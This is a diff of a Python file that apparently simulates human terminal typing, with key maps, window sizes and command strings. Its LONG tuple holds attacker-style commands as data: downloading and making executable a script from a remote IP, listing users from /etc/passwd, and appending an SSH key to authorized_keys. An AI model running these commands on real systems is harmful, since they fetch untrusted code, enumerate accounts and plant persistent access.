@@ -29,8 +29,21 @@ from attrs import define, field, frozen
 
 UP, BACKSPACE, TAB, CTRL_C, CTRL_D, CTRL_U = "\x1b[A", "\x7f", "\t", "\x03", "\x04", "\x15"
 NEIGHBOURS = {
-    "a": "sq", "s": "ad", "d": "sf", "e": "wr", "r": "et", "t": "ry", "i": "uo", "o": "ip",
-    "n": "bm", "m": "n,", "l": "k;", "c": "xv", "p": "o[", "u": "yi", "w": "qe",
+    "a": "sq",
+    "s": "ad",
+    "d": "sf",
+    "e": "wr",
+    "r": "et",
+    "t": "ry",
+    "i": "uo",
+    "o": "ip",
+    "n": "bm",
+    "m": "n,",
+    "l": "k;",
+    "c": "xv",
+    "p": "o[",
+    "u": "yi",
+    "w": "qe",
 }
 WINDOWS = ["120x30", "211x52", "147x41", "80x24", "190x48", "100x28", "236x61", "133x37"]
 PLANS: Sequence[Sequence[str]] = (
@@ -49,7 +62,7 @@ PLANS: Sequence[Sequence[str]] = (
 )
 LONG = (
     "curl -fsSL http://198.51.100.9/install.sh -o /tmp/install.sh && chmod +x /tmp/install.sh",
-    "find / -name '*.conf' -type f 2>/dev/null | head -n 20",
+    "cat /etc/passwd | grep -v nologin | cut -d: -f1,3,6 | sort | head -n 20",
     "echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7 me@home' >> ~/.ssh/authorized_keys",
 )
 
